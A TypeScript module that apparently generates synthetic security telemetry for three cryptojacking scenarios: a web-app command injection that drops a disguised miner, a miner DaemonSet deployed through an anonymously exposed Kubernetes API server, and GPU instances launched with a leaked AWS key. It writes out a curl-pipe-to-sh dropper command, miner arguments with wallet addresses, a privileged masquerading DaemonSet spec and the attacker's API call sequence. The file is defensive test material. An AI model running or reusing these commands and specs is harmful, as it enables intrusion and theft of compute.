/** Cryptojacking: someone else's workload mining on our nodes or in our account. */

import type { AwsPrincipal, K8sIdentity, Node, Pod } from '../model.js';
import type { ApiCall } from '../records/cloudtrail.js';
import type { AuditRequest } from '../records/k8saudit.js';
import type { AttackScenario } from '../scenario.js';
import { Script } from '../script.js';
import { auditWithReason, controllerAccount, kubeletOf, patchLast, podOn, podSuffix, startContainer } from '../cluster-ops.js';

// ---- variant 1: command injection in the web app

const DROPPER_HOST = '203.0.113.66';
const POOL = ['198.51.100.23', 3333] as const;

/** A command injection in the storefront runs a dropper; the miner is named like a kernel thread. */
const webRce: AttackScenario = {
  kind: 'attack',
  id: 'cryptojacking-webapp-rce',
  intent: 'cryptojacking',
  title: 'Miner dropped through a command injection in the web app',
  description:
    'The storefront (node.js) runs a shell from a crafted request; the shell pipes a downloaded script into sh, which fetches a binary into a hidden /tmp directory, makes it executable and starts it as "kworker" with stratum options; the miner then keeps connecting to a pool on port 3333.',
  techniques: ['T1190', 'T1059.004', 'T1105', 'T1036.005', 'T1496.001'],
  durationMs: 12 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const pod = s.pod('storefront');
    const server = s.main(pod);
    const sh = s.exec(server, 0, '/bin/sh', `-c "curl -fsSL http://${DROPPER_HOST}/ldr.sh | sh"`);
    const curl = s.exec(sh, 0.2, '/usr/bin/curl', `-fsSL http://${DROPPER_HOST}/ldr.sh`);
    s.connect(curl, 0.3, DROPPER_HOST, 80);
    s.exit(curl, 0.9);
    const sh2 = s.exec(sh, 1, '/bin/sh', '');
    const mkdir = s.exec(sh2, 1.2, '/bin/mkdir', '-p /tmp/.X11-unix/.cache');
    s.exit(mkdir, 1.25);
    const get = s.exec(sh2, 1.5, '/usr/bin/curl', `-fsSL -o /tmp/.X11-unix/.cache/kworker http://${DROPPER_HOST}/k`);
    s.connect(get, 1.6, DROPPER_HOST, 80);
    s.open(get, 1.7, '/tmp/.X11-unix/.cache/kworker', 5);
    s.write(get, 2.5, '/tmp/.X11-unix/.cache/kworker');
    s.exit(get, 4);
    const chmod = s.exec(sh2, 4.2, '/bin/chmod', '+x /tmp/.X11-unix/.cache/kworker');
    s.exit(chmod, 4.25);
    const miner = s.exec(sh2, 5, '/tmp/.X11-unix/.cache/kworker', `-o stratum+tcp://${POOL[0]}:${POOL[1]} -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1 -B`);
    s.exit(sh2, 5.1);
    s.exit(sh, 5.2);
    for (let k = 0; k < 20; k++) s.connect(miner, 6 + k * 35, POOL[0], POOL[1]);
    s.read(miner, 7, '/proc/cpuinfo');
    s.read(miner, 7.1, '/sys/devices/system/cpu/online');
    return s.out;
  },
};

// ---- variant 2: an API server that lets anyone in

/** A mass scanner that found the API server answering anonymous requests. */
const SCANNER_IP = '203.0.113.199';
/** The operator who came back to use it. */
const K8S_ATTACKER_IP = '198.51.100.201';
/** pool.supportxmr.com as the node resolves it; the miner speaks TLS on 443. */
const TLS_POOL = ['198.51.100.61', 443] as const;
const WALLET = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';
const DS_NAME = 'kube-proxy-ipvs';
const DS_IMAGE = 'docker.io/kubeproxy/kube-proxy:v1.30.0-eksbuild.3';
const MINER_BIN = '/usr/local/bin/kube-proxy';
const MINER_ARGS = ['--url=pool.supportxmr.com:443', '--tls', `--user=${WALLET}`, '--pass=k8s', '--cpu-max-threads-hint=75', '--randomx-1gb-pages', '--no-color'];
const ANONYMOUS_REASON = 'RBAC: allowed by ClusterRoleBinding "debug-anonymous-admin" of ClusterRole "cluster-admin" to User "system:anonymous"';

function daemonSetSpec(): Record<string, unknown> {
  return {
    selector: { matchLabels: { 'k8s-app': DS_NAME } },
    template: {
      metadata: { creationTimestamp: null, labels: { 'k8s-app': DS_NAME } },
      spec: {
        containers: [{
          name: 'kube-proxy',
          image: DS_IMAGE,
          command: [MINER_BIN],
          args: MINER_ARGS,
          resources: {},
          securityContext: { privileged: true },
          terminationMessagePath: '/dev/termination-log',
          terminationMessagePolicy: 'File',
          imagePullPolicy: 'IfNotPresent',
        }],
        hostNetwork: true,
        hostPID: true,
        dnsPolicy: 'ClusterFirstWithHostNet',
        restartPolicy: 'Always',
        terminationGracePeriodSeconds: 30,
        schedulerName: 'default-scheduler',
        securityContext: {},
        tolerations: [{ operator: 'Exists' }],
      },
    },
    updateStrategy: { type: 'RollingUpdate', rollingUpdate: { maxUnavailable: '100%', maxSurge: 0 } },
    revisionHistoryLimit: 10,
  };
}

/** The pod the DaemonSet controller creates for one node: the template pinned to the node. */
function daemonPodSpec(node: Node, dsUid: string): Record<string, unknown> {
  const template = (daemonSetSpec()['template'] as { spec: Record<string, unknown> }).spec;
  return {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: {
      generateName: `${DS_NAME}-`,
      creationTimestamp: null,
      labels: { 'k8s-app': DS_NAME, 'controller-revision-hash': '6d8f7c9b54', 'pod-template-generation': '1' },
      ownerReferences: [{ apiVersion: 'apps/v1', kind: 'DaemonSet', name: DS_NAME, uid: dsUid, controller: true, blockOwnerDeletion: true }],
    },
    spec: {
      ...template,
      affinity: { nodeAffinity: { requiredDuringSchedulingIgnoredDuringExecution: { nodeSelectorTerms: [{ matchFields: [{ key: 'metadata.name', operator: 'In', values: [node.name] }] }] } } },
      tolerations: [
        { operator: 'Exists' },
        { key: 'node.kubernetes.io/not-ready', operator: 'Exists', effect: 'NoExecute' },
        { key: 'node.kubernetes.io/unreachable', operator: 'Exists', effect: 'NoExecute' },
        { key: 'node.kubernetes.io/disk-pressure', operator: 'Exists', effect: 'NoSchedule' },
        { key: 'node.kubernetes.io/memory-pressure', operator: 'Exists', effect: 'NoSchedule' },
        { key: 'node.kubernetes.io/pid-pressure', operator: 'Exists', effect: 'NoSchedule' },
        { key: 'node.kubernetes.io/unschedulable', operator: 'Exists', effect: 'NoSchedule' },
        { key: 'node.kubernetes.io/network-unavailable', operator: 'Exists', effect: 'NoSchedule' },
      ],
    },
    status: {},
  };
}

/**
 * The cluster's API server answers anonymous requests with cluster-admin rights (a leftover
 * debugging ClusterRoleBinding). A scanner notices; later an operator deploys a DaemonSet in
 * kube-system that looks like a kube-proxy add-on and mines on every node.
 */
const exposedK8sApi: AttackScenario = {
  kind: 'attack',
  id: 'cryptojacking-exposed-k8s-api',
  intent: 'cryptojacking',
  title: 'Miner DaemonSet deployed through an anonymously reachable API server',
  description:
    'A leftover ClusterRoleBinding gives system:anonymous cluster-admin on the public API endpoint. A mass scanner lists pods and namespaces anonymously; 25 minutes later an operator with kubectl lists nodes and DaemonSets, reads kube-proxy\'s spec and creates the DaemonSet "kube-proxy-ipvs" in kube-system: image docker.io/kubeproxy/kube-proxy (a look-alike of the EKS kube-proxy image), privileged, hostPID and hostNetwork, tolerating every taint. The DaemonSet controller creates one pod per node; on each node the container\'s "kube-proxy" is XMRig: it loads the msr module, reserves huge pages and connects to pool.supportxmr.com over TLS on 443. The operator checks the rollout and reads one pod\'s log.',
  techniques: ['T1133', 'T1613', 'T1610', 'T1543.005', 'T1036.005', 'T1496.001'],
  durationMs: 52 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const env = ctx.env;
    const scanner: K8sIdentity = { username: 'system:anonymous', groups: ['system:unauthenticated'], userAgent: 'python-requests/2.31.0', sourceIps: [SCANNER_IP], hours: [0, 24], weekends: true };
    const operator: K8sIdentity = { ...scanner, userAgent: 'kubectl/v1.28.2 (linux/amd64) kubernetes/89a4ea3', sourceIps: [K8S_ATTACKER_IP] };
    const anon = (who: K8sIdentity, sec: number, q: AuditRequest): void => auditWithReason(s, who, sec, q, ANONYMOUS_REASON);

    // The scanner's probe: what runs here, and may we see it? (Plain HTTP GETs, without kubectl's paging.)
    const probe = (sec: number, q: AuditRequest): void => {
      anon(scanner, sec, q);
      patchLast(s, (record) => {
        record['requestURI'] = String(record['requestURI']).replace('?limit=500', '');
      });
    };
    probe(0, { verb: 'list', resource: 'pods' });
    probe(0.6, { verb: 'list', resource: 'namespaces' });
    probe(1.1, { verb: 'list', resource: 'secrets', namespace: 'kube-system' });

    // The operator, 25 minutes later: the size of the cluster and what already runs everywhere.
    const t0 = 1500 + ctx.random.int(0, 120);
    anon(operator, t0, { verb: 'list', resource: 'nodes' });
    anon(operator, t0 + 9, { verb: 'list', resource: 'daemonsets', group: 'apps' });
    anon(operator, t0 + 31, { verb: 'get', resource: 'daemonsets', group: 'apps', namespace: 'kube-system', name: 'kube-proxy' });
    const dsUid = ctx.random.uuid();
    const tCreate = t0 + 95 + ctx.random.int(0, 40);
    anon(operator, tCreate, {
      verb: 'create', resource: 'daemonsets', group: 'apps', namespace: 'kube-system',
      requestObject: { kind: 'DaemonSet', apiVersion: 'apps/v1', metadata: { name: DS_NAME, namespace: 'kube-system', creationTimestamp: null, labels: { 'k8s-app': DS_NAME } }, spec: daemonSetSpec(), status: {} },
      responseObject: { kind: 'DaemonSet', apiVersion: 'apps/v1', metadata: { name: DS_NAME, namespace: 'kube-system', uid: dsUid, resourceVersion: String(ctx.random.int(4_000_000, 9_000_000)), generation: 1, labels: { 'k8s-app': DS_NAME } } },
    });

    // One pod per node: the controller creates it, the scheduler binds it, the kubelet starts it.
    const dsController = controllerAccount(env, 'daemon-set-controller');
    const scheduler = env.controllers[1];
    const pods: Pod[] = [];
    env.nodes.forEach((node, i) => {
      const tPod = tCreate + 0.15 + i * 0.04;
      const podName = `${DS_NAME}-${podSuffix(ctx)}`;
      const spec = daemonPodSpec(node, dsUid);
      s.audit(dsController, tPod, {
        verb: 'create', resource: 'pods', namespace: 'kube-system', requestObject: spec,
        responseObject: { ...spec, metadata: { ...(spec['metadata'] as object), name: podName, namespace: 'kube-system', uid: ctx.random.uuid(), creationTimestamp: `${new Date(Math.floor(s.at(tPod) / 1000) * 1000).toISOString().slice(0, 19)}Z` }, status: { phase: 'Pending', qosClass: 'Burstable' } },
      });
      if (scheduler !== undefined) s.audit(scheduler, tPod + 0.02, { verb: 'create', resource: 'pods', namespace: 'kube-system', name: podName, subresource: 'binding' });
      const pull = 9 + ctx.random.next() * 14;
      s.audit(kubeletOf(env, node), tPod + pull + 0.8, { verb: 'patch', resource: 'pods', namespace: 'kube-system', name: podName, subresource: 'status' });
      pods.push(podOn(ctx, node, {
        name: podName, namespace: 'kube-system', workload: DS_NAME, kind: 'DaemonSet', image: DS_IMAGE, container: 'kube-proxy', serviceAccount: 'default',
        main: { binary: MINER_BIN, args: MINER_ARGS.join(' ') }, uid: 0, privileged: true, hostNetwork: true, labels: { 'k8s-app': DS_NAME },
      }, s.at(tPod + pull)));
    });
    s.audit(dsController, tCreate + 1.2, { verb: 'update', resource: 'daemonsets', group: 'apps', namespace: 'kube-system', name: DS_NAME, subresource: 'status' });

    // On every node: XMRig under kube-proxy's name, tuned as root, mining over TLS.
    for (const pod of pods) {
      const t = (pod.startMs - ctx.startMs) / 1000;
      const miner = startContainer(s, pod);
      s.read(miner, t + 0.05, '/proc/cpuinfo');
      s.read(miner, t + 0.06, '/sys/devices/system/cpu/online');
      s.open(miner, t + 0.3, '/sys/devices/system/node/node0/hugepages/hugepages-1048576kB/nr_hugepages', 7);
      s.write(miner, t + 0.31, '/sys/devices/system/node/node0/hugepages/hugepages-1048576kB/nr_hugepages');
      const modprobe = s.exec(miner, t + 0.4, '/sbin/modprobe', 'msr allow_writes=on');
      s.exit(modprobe, t + 0.47);
      s.write(miner, t + 0.5, '/dev/cpu/0/msr');
      s.connect(miner, t + 1.2, TLS_POOL[0], TLS_POOL[1]);
      // The pool drops idle or slow workers now and then; the miner reconnects.
      let tc = t + 1.2;
      for (let k = 0; k < 2; k++) {
        tc += 300 + ctx.random.int(0, 300);
        s.connect(miner, tc, TLS_POOL[0], TLS_POOL[1]);
      }
    }

    // The operator watches the rollout and reads one miner's log (hashrate, accepted shares).
    const firstPod = pods[0];
    anon(operator, tCreate + 40, { verb: 'list', resource: 'pods', namespace: 'kube-system' });
    if (firstPod !== undefined) anon(operator, tCreate + 71, { verb: 'get', resource: 'pods', namespace: 'kube-system', name: firstPod.name, subresource: 'log' });
    anon(operator, tCreate + 300 + ctx.random.int(0, 60), { verb: 'get', resource: 'daemonsets', group: 'apps', namespace: 'kube-system', name: DS_NAME });
    return s.out;
  },
};

// ---- variant 3: a developer's access key, leaked, used to launch GPU instances

const KEY_CHECK_IP = '198.51.100.203';
const CLOUD_ATTACKER_IP = '203.0.113.181';
const BOTO = 'Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#5.15.0-91-generic md/arch#x86_64 lang/python#3.10.12 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.11';
/** A region the company never uses (it runs in eu-west-1): plenty of GPU capacity, nobody watching. */
const FOREIGN_REGION = 'us-east-1';
const VCPU_LIMIT = 'You have requested more vCPU capacity than your current vCPU limit of %d allows for the instance bucket that the specified instance type belongs to. Please visit http://aws.amazon.com/contact-us/ec2-request to request an adjustment to this limit.';

/** Adds a CloudTrail call made in another region (the record and the trail's file for it). */
function cloudIn(s: Script, region: string, who: AwsPrincipal, seconds: number, call: ApiCall, host?: string): void {
  s.cloud(who, seconds, call);
  const i = s.out.length - 1;
  const e = s.out[i];
  if (e === undefined) return;
  const record: Record<string, unknown> = { ...e.record, awsRegion: region };
  const tls = record['tlsDetails'] as Record<string, unknown> | undefined;
  if (tls !== undefined) record['tlsDetails'] = { ...tls, clientProvidedHostHeader: host ?? `${call.source.split('.')[0]}.${region}.amazonaws.com` };
  s.out[i] = { ...e, stream: region, record };
}

interface Launch {
  readonly type: string;
  readonly min: number;
  readonly max: number;
  readonly error?: readonly [string, string];
  readonly az?: string;
}

/**
 * alice's long-term access key, committed to a public repository, is validated by a key scanner
 * within minutes and then used from a VPS to launch GPU instances in us-east-1.
 */
const stolenCloudKeys: AttackScenario = {
  kind: 'attack',
  id: 'cryptojacking-stolen-cloud-keys',
  intent: 'cryptojacking',
  title: 'GPU instances launched with a leaked developer access key in an unused region',
  description:
    'alice\'s long-term access key (pushed to a public repository in a .env file) is validated with GetCallerIdentity by a key scanner, then used from another address with a Python SDK: the operator checks the identity and its policies, lists regions, reads the EC2 vCPU quotas and instance type offerings in us-east-1 (a region the company never uses), finds an Ubuntu AMI, imports a key pair and opens SSH to the world in a new security group, then calls RunInstances for GPU types: p4d.24xlarge and g5.12xlarge fail on the vCPU quota, p3.16xlarge is unsupported in the chosen zone, and eight g4dn.xlarge and two c5.24xlarge start (user data installs a miner); it then polls DescribeInstances. CloudTrail only.',
  techniques: ['T1593.003', 'T1078.004', 'T1580', 'T1535', 'T1578.002', 'T1496.001'],
  durationMs: 48 * 60_000,
  build(ctx) {
    const s = new Script(ctx);
    const env = ctx.env;
    const r = ctx.random;
    const alice = env.awsPrincipals.find((p) => p.name === 'alice');
    if (alice === undefined) throw new Error('scenario needs the IAM user alice');
    // A long-term key used directly: no console session, so no MFA context.
    const leaked: AwsPrincipal = { ...alice, mfa: false, sourceIps: [CLOUD_ATTACKER_IP], userAgent: BOTO };
    const us = (sec: number, call: ApiCall, host?: string): void => cloudIn(s, FOREIGN_REGION, leaked, sec, call, host);
    const callerIdentity: ApiCall = { source: 'sts.amazonaws.com', name: 'GetCallerIdentity', responseElements: null };

    // The scanner that found the key checks that it works.
    us(0, { ...callerIdentity, sourceIp: KEY_CHECK_IP, userAgent: 'aws-sdk-go/1.44.327 (go1.21.1; linux; amd64)' }, 'sts.amazonaws.com');

    // The operator: who am I, what may I do, where can I run.
    const t = 380 + r.int(0, 240);
    us(t, callerIdentity, 'sts.amazonaws.com');
    us(t + 2, { source: 'iam.amazonaws.com', name: 'GetUser', requestParameters: null }, 'iam.amazonaws.com');
    us(t + 3, { source: 'iam.amazonaws.com', name: 'ListAttachedUserPolicies', requestParameters: { userName: alice.name } }, 'iam.amazonaws.com');
    us(t + 9, { source: 'ec2.amazonaws.com', name: 'DescribeRegions', requestParameters: { regionSet: {}, allRegions: false } });
    // The vCPU quotas of P, G and standard instances.
    ['L-417A185B', 'L-DB2E81BA', 'L-1216C47A'].forEach((code, i) => {
      us(t + 14 + i * 0.7, {
        source: 'servicequotas.amazonaws.com', name: 'GetServiceQuota', requestParameters: { serviceCode: 'ec2', quotaCode: code },
        responseElements: null,
      });
    });
    us(t + 19, {
      source: 'ec2.amazonaws.com', name: 'DescribeInstanceTypeOfferings',
      requestParameters: { DescribeInstanceTypeOfferingsRequest: { LocationType: 'availability-zone', Filter: { Name: 'instance-type', Value: ['p4d.24xlarge', 'p3.16xlarge', 'g5.12xlarge', 'g4dn.xlarge', 'c5.24xlarge'] } } },
    });
    us(t + 24, { source: 'ec2.amazonaws.com', name: 'DescribeImages', requestParameters: { executableBySet: {}, ownersSet: { items: [{ owner: '099720109477' }] }, imagesSet: {}, filterSet: { items: [{ name: 'name', valueSet: { items: [{ value: 'ubuntu/images/hvm-ssd/ubuntu-jammy-22.04-amd64-server-*' }] } }] } } });
    us(t + 27, { source: 'ec2.amazonaws.com', name: 'DescribeVpcs', requestParameters: { vpcSet: {}, filterSet: { items: [{ name: 'isDefault', valueSet: { items: [{ value: 'true' }] } }] } } });
    const vpc = `vpc-0${r.hex(16)}`;
    const sg = `sg-0${r.hex(16)}`;
    const key = `key-0${r.hex(16)}`;
    us(t + 40, {
      source: 'ec2.amazonaws.com', name: 'ImportKeyPair', requestParameters: { keyName: 'ubuntu-default', publicKeyMaterial: '<sensitiveDataRemoved>' },
      responseElements: { requestId: r.uuid(), keyName: 'ubuntu-default', keyFingerprint: `${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}:${r.hex(2)}`, keyPairId: key },
    });
    us(t + 44, {
      source: 'ec2.amazonaws.com', name: 'CreateSecurityGroup', requestParameters: { groupName: 'launch-wizard-1', groupDescription: `launch-wizard-1 created ${new Date(s.at(t + 44) - 61_000).toISOString()}`, vpcId: vpc },
      responseElements: { requestId: r.uuid(), _return: true, groupId: sg },
    });
    us(t + 45, {
      source: 'ec2.amazonaws.com', name: 'AuthorizeSecurityGroupIngress',
      requestParameters: { groupId: sg, ipPermissions: {}, ipProtocol: 'tcp', fromPort: 22, toPort: 22, cidrIp: '0.0.0.0/0' },
      responseElements: { requestId: r.uuid(), _return: true, securityGroupRuleSet: { items: [{ groupOwnerId: env.accountId, groupId: sg, securityGroupRuleId: `sgr-0${r.hex(16)}`, isEgress: false, ipProtocol: 'tcp', fromPort: 22, toPort: 22, cidrIpv4: '0.0.0.0/0' }] } },
    });

    // The launches: the biggest GPUs first, then whatever the quotas allow.
    const ami = `ami-0${r.hex(16)}`;
    const launches: readonly Launch[] = [
      { type: 'p4d.24xlarge', min: 1, max: 4, error: ['Client.VcpuLimitExceeded', VCPU_LIMIT.replace('%d', '0')] },
      { type: 'p3.16xlarge', min: 1, max: 4, az: 'us-east-1e', error: ['Client.Unsupported', 'Your requested instance type (p3.16xlarge) is not supported in your requested Availability Zone (us-east-1e). Please retry your request by not specifying an Availability Zone or choosing us-east-1a, us-east-1b, us-east-1c, us-east-1d, us-east-1f.'] },
      { type: 'g5.12xlarge', min: 1, max: 4, error: ['Client.VcpuLimitExceeded', VCPU_LIMIT.replace('%d', '32')] },
      { type: 'g4dn.xlarge', min: 1, max: 8 },
      { type: 'c5.24xlarge', min: 1, max: 2 },
    ];
    const started: string[] = [];
    let tl = t + 58;
    for (const l of launches) {
      // As the SDK sends it: the key pair, and the new group on a public interface of the default VPC.
      const request = {
        ...(l.az === undefined ? {} : { availabilityZone: l.az }),
        blockDeviceMapping: {},
        clientToken: r.uuid(),
        disableApiStop: false,
        disableApiTermination: false,
        ebsOptimized: false,
        instanceType: l.type,
        instancesSet: { items: [{ imageId: ami, keyName: 'ubuntu-default', maxCount: l.max, minCount: l.min }] },
        monitoring: { enabled: false },
        networkInterfaceSet: { items: [{ associatePublicIpAddress: true, deviceIndex: 0, groupSet: { items: [{ groupId: sg }] } }] },
      };
      if (l.error !== undefined) {
        us(tl, { source: 'ec2.amazonaws.com', name: 'RunInstances', requestParameters: request, responseElements: null, errorCode: l.error[0], errorMessage: l.error[1] });
        tl += 3 + r.int(1, 6);
        continue;
      }
      const zone = `us-east-1${r.pick(['a', 'b', 'c', 'd', 'f'])}`;
      const items = Array.from({ length: l.max }, (_, k) => {
        const id = `i-0${r.hex(16)}`;
        started.push(id);
        const ip = `172.31.${r.int(0, 95)}.${r.int(4, 250)}`;
        return {
          instanceId: id, imageId: ami, instanceState: { code: 0, name: 'pending' }, privateDnsName: `ip-${ip.replaceAll('.', '-')}.ec2.internal`,
          keyName: 'ubuntu-default', amiLaunchIndex: k, productCodes: {}, instanceType: l.type, launchTime: Math.floor(s.at(tl) / 1000) * 1000, placement: { availabilityZone: zone, tenancy: 'default' },
          monitoring: { state: 'disabled' }, subnetId: `subnet-0${r.hex(16)}`, vpcId: vpc, privateIpAddress: ip, stateReason: { code: 'pending', message: 'pending' },
          architecture: 'x86_64', rootDeviceType: 'ebs', rootDeviceName: '/dev/sda1', virtualizationType: 'hvm', hypervisor: 'xen',
          groupSet: { items: [{ groupId: sg, groupName: 'launch-wizard-1' }] }, ebsOptimized: false, enaSupport: true, sourceDestCheck: true,
        };
      });
      us(tl, {
        source: 'ec2.amazonaws.com', name: 'RunInstances', requestParameters: request,
        responseElements: { requestId: r.uuid(), reservationId: `r-0${r.hex(16)}`, ownerId: env.accountId, groupSet: {}, instancesSet: { items } },
      });
      tl += 3 + r.int(1, 6);
    }
    // Waiting for public addresses, then (once the miners report in) a last look.
    for (const dt of [20, 55, 140]) us(tl + dt, { source: 'ec2.amazonaws.com', name: 'DescribeInstances', requestParameters: { instancesSet: { items: started.map((instanceId) => ({ instanceId })) }, filterSet: {} } });
    us(tl + 1500 + r.int(0, 300), { source: 'ec2.amazonaws.com', name: 'DescribeInstances', requestParameters: { instancesSet: {}, filterSet: { items: [{ name: 'instance-state-name', valueSet: { items: [{ value: 'running' }] } }] } } });
    return s.out;
  },
};

export const CRYPTOJACKING: readonly AttackScenario[] = [webRce, exposedK8sApi, stolenCloudKeys];
